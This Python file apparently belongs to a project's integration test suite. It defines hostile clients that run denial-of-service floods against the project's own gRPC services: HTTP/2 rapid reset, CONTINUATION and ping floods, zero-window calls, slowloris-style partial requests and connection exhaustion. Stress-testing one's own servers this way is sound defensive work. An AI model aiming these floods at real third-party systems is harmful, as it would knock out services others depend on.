"""Attacks below gRPC, with HTTP/2 frames or only connections, on every port."""

import concurrent.futures
import random
import resource
import socket
import struct
import threading
import time

from tests.integration.hostile import client
from tests.integration.hostile import http2


class Floods(client.HostileClient):

    # ---- S4: memory

    def unfinished_messages(self):
        """Messages whose last byte never arrives, on many streams of a few connections."""
        deadline = time.monotonic() + self.seconds
        view = self.progress().view
        targets = [(shard.address, client.EXCHANGE, 2 << 20) for shard in view.shards] + [(self.coordinator, client.JOIN, 15 << 20)]

        def one(target):
            address, path, size = target
            try:
                connection = self.raw(address)
            except OSError:
                self.count('connections refused')
                return
            body = b'\0' + struct.pack('>I', size) + b'\x0a' * (1 << 20)
            streams = []
            try:
                for _ in range(100):
                    streams.append(connection.open_stream(path, self.metadata()))
                sent = {stream: 0 for stream in streams}
                while time.monotonic() < deadline and not connection.closed:
                    for stream in streams:
                        if sent[stream] >= size or time.monotonic() >= deadline:
                            continue
                        data = body[:1 << 16] if sent[stream] == 0 else body[5:min(5 + size - sent[stream], 1 << 16)]
                        sent[stream] += connection.send_data(stream, data, 0.02)
                self.count('sent bytes', sum(sent.values()))
                # The messages stay unfinished for the rest of the attack.
                time.sleep(max(0, deadline - time.monotonic()))
            except OSError:
                self.count('connections closed')
            connection.close()

        with concurrent.futures.ThreadPoolExecutor(18) as pool:
            list(pool.map(one, targets * 6))

    def answers_never_read(self):
        """Calls on connections whose window leaves no room for an answer."""
        request = struct.pack('>BI', 0, 0)  # a message without fields
        shut = http2.frame(http2.SETTINGS, 0, 0, struct.pack('>HI', 4, 0))  # no window for any stream
        deadline = time.monotonic() + self.seconds
        connections = []
        for _ in range(10):
            connection = self.raw(self.coordinator)
            connection.send(shut)
            connections.append(connection)

        while time.monotonic() < deadline:
            for connection in connections:
                try:
                    for _ in range(50):
                        stream = connection.open_stream(client.CONTROL + 'GetProgress', self.metadata())
                        connection.send(http2.frame(http2.DATA, http2.END_STREAM, stream, request))
                        self.count('calls')
                except OSError:
                    self.count('connections closed')
            time.sleep(0.05)
        for connection in connections:
            connection.close()

    # ---- S6, S7: occupied streams and connections

    def silent_streams(self):
        """Thousands of silent streams to each shard and to the coordinator: opens as many as it can in `opening` seconds and keeps
        them open for the rest of the attack."""
        deadline = time.monotonic() + self.seconds
        opened_by = time.monotonic() + self.target['opening']
        view = self.progress().view
        connections = []
        for address, path in [(shard.address, client.EXCHANGE) for shard in view.shards] + [(self.coordinator, client.JOIN)]:
            connection = None
            for number in range(4500):
                try:
                    if connection is None or connection.closed or number % 90 == 0:
                        connection = self.raw(address)
                        connections.append(connection)
                    connection.open_stream(path, self.metadata())
                    self.count('opened')
                except OSError:
                    self.count('refused')
                    connection = None
                if time.monotonic() > opened_by:
                    break

        print('READY', flush=True)
        time.sleep(max(0, deadline - time.monotonic()))
        for connection in connections:
            connection.close()

    def silent_connections(self):
        """To each port: silent connections, and some that begin a request and never end it."""
        view = self.progress().view
        starts = [b'', b'GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: ', b'P', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0']
        open_ones = []
        for address in [*self.metrics, self.coordinator, *(shard.address for shard in view.shards)]:
            host, port = address.rsplit(':', 1)
            for number in range(100):
                try:
                    one = socket.create_connection((host, int(port)), timeout=2)
                    one.sendall(starts[number % len(starts)])
                    open_ones.append(one)
                    self.count('opened')
                except OSError:
                    self.count('refused')

        print('READY', flush=True)
        for _ in self.until_end():
            for one in open_ones:
                try:
                    one.send(b'x')  # a byte now and then
                except OSError:
                    self.count('closed')
            time.sleep(0.5)

    def many_connections(self):
        """More silent connections to each port than a process may have open files."""
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        deadline = time.monotonic() + self.seconds
        view = self.progress().view
        open_ones = []
        for address in [self.coordinator, *(shard.address for shard in view.shards)]:
            host, port = address.rsplit(':', 1)
            for _ in range(1500):
                try:
                    open_ones.append(socket.create_connection((host, int(port)), timeout=1))
                    self.count('opened')
                except OSError:
                    self.count('refused')
                if time.monotonic() > deadline:
                    break
        time.sleep(max(0, deadline - time.monotonic()))

    # ---- S13: floods of frames

    def _flood(self, address, prepare, chunk):
        """Sends what `chunk(connection)` returns, again and again; opens a new connection when the server closes one."""
        while time.monotonic() < self._deadline:
            try:
                connection = self.raw(address)
            except OSError:
                self.count('connections refused')
                time.sleep(0.05)
                continue
            self.count('connections')
            try:
                prepare(connection)
                while time.monotonic() < self._deadline and not connection.closed:
                    data = chunk(connection)
                    connection.send(data)
                    self.count('sent bytes', len(data))
            except OSError:
                pass
            connection.close()

    def _flood_all(self, prepare, chunk):
        self._deadline = time.monotonic() + self.seconds
        view = self.progress().view
        paths = [(shard.address, client.EXCHANGE) for shard in view.shards] + [(self.coordinator, client.JOIN)]
        only = self.target.get('only')
        threads = [threading.Thread(target=self._flood, daemon=True, args=(address, prepare, lambda c, p=path: chunk(c, p)))
                   for address, path in paths if only is None or (only == 'coordinator') == (path == client.JOIN)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(self.seconds + 12)

    def rapid_reset(self):
        blocks = {path: http2.grpc_headers(path, self.metadata()) for path in (client.EXCHANGE, client.JOIN)}

        def chunk(connection, path):
            frames = []
            for _ in range(200):
                stream = connection.new_stream()
                frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, blocks[path]))
                frames.append(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL))
            self.count('streams', 200)
            return b''.join(frames)
        self._flood_all(lambda connection: None, chunk)

    def continuation_flood(self):
        """A header block that never ends."""
        some = http2.header_block([(f'x-{i}', 'y') for i in range(1800)])[:16000]

        def chunk(connection, path):
            if not hasattr(connection, 'flooded'):
                connection.flooded = connection.new_stream()
                return http2.frame(http2.HEADERS, 0, connection.flooded, http2.grpc_headers(path, self.metadata()))
            return http2.frame(http2.CONTINUATION, 0, connection.flooded, some) * 16
        self._flood_all(lambda connection: None, chunk)

    def many_headers(self):
        """Calls with many small headers, each ended properly, on streams that stay open."""
        more = http2.header_block([(f'x-{i}', 'y') for i in range(1200)])

        def chunk(connection, path):
            stream = connection.new_stream()
            block = http2.grpc_headers(path, self.metadata()) + more
            pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
            out = b''
            for i, piece in enumerate(pieces):
                kind = http2.HEADERS if i == 0 else http2.CONTINUATION
                out += http2.frame(kind, http2.END_HEADERS if i == len(pieces) - 1 else 0, stream, piece)
            return out
        self._flood_all(lambda connection: None, chunk)

    def ping_flood(self):
        ping = http2.frame(http2.PING, 0, 0, b'12345678') * 500
        settings = http2.frame(http2.SETTINGS, 0, 0) * 500
        self._flood_all(lambda connection: None, lambda connection, path: ping + settings)

    def empty_data(self):
        """Empty DATA frames, on one stream."""
        def chunk(connection, path):
            if not hasattr(connection, 'flooded'):
                connection.flooded = connection.open_stream(path, self.metadata())
            return http2.frame(http2.DATA, 0, connection.flooded) * 1000
        self._flood_all(lambda connection: None, chunk)

    def random_frames(self):
        """HTTP/2 frames of random kinds, also unknown ones, with random content."""
        generator = random.Random(self.target.get('seed', 1))

        def chunk(connection, path):
            frames = b''
            for _ in range(20):
                kind = generator.randrange(12)
                payload = generator.randbytes(generator.choice((0, 1, 4, 8, 40, 300)))
                frames += http2.frame(kind, generator.randrange(256), generator.randrange(8), payload)
            return frames
        self._flood_all(lambda connection: connection.open_stream(client.EXCHANGE, self.metadata()), chunk)
